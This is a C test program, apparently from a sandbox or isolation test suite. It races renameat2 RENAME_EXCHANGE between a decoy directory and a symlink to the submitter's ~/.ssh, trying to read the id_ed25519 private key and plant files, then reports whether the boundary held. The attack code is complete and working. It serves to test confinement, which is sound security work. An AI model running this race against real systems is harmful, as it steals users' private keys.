/* The racer: one process swaps a directory and a symlink to the secrets, another opens through the name.
 * argv: the submitter's home directory, tries.
 */
#include "attack.h"

int main(int argc, char **argv)
{
	char path[1024], bytes[64];
	int tries = argc > 2 ? atoi(argv[2]) : 5000, got = 0, changed = 0;
	mkdir("swap", 0755);
	int fd = open("swap/id_ed25519", O_WRONLY | O_CREAT, 0600);
	write(fd, "harmless", 8);
	close(fd);
	snprintf(path, sizeof(path), "%s/.ssh", argv[1]);
	symlink(path, "swapped");
	pid_t racer = fork();
	if (racer == 0)
		for (;;)
			syscall(SYS_renameat2, AT_FDCWD, "swap", AT_FDCWD, "swapped", 2 /* RENAME_EXCHANGE */);
	for (int i = 0; i < tries; i++) {
		fd = open("swap/id_ed25519", O_RDONLY);
		if (fd >= 0) {
			ssize_t length = read(fd, bytes, sizeof(bytes));
			if (length > 0 && memcmp(bytes, "harmless", 8 < length ? 8 : length) != 0)
				got++;
			close(fd);
		}
		if (i % 10 == 0) {
			fd = open("swap/planted", O_WRONLY | O_CREAT, 0600);
			changed += fd >= 0;
			close(fd);
		}
	}
	kill(racer, SIGKILL);
	waitpid(racer, NULL, 0);
	if (got)
		BROKE("the secret was read %d times of %d", got, tries);
	else
		HELD("%d tries", tries);
	printf("%d files made\n", changed);
	return 0;
}
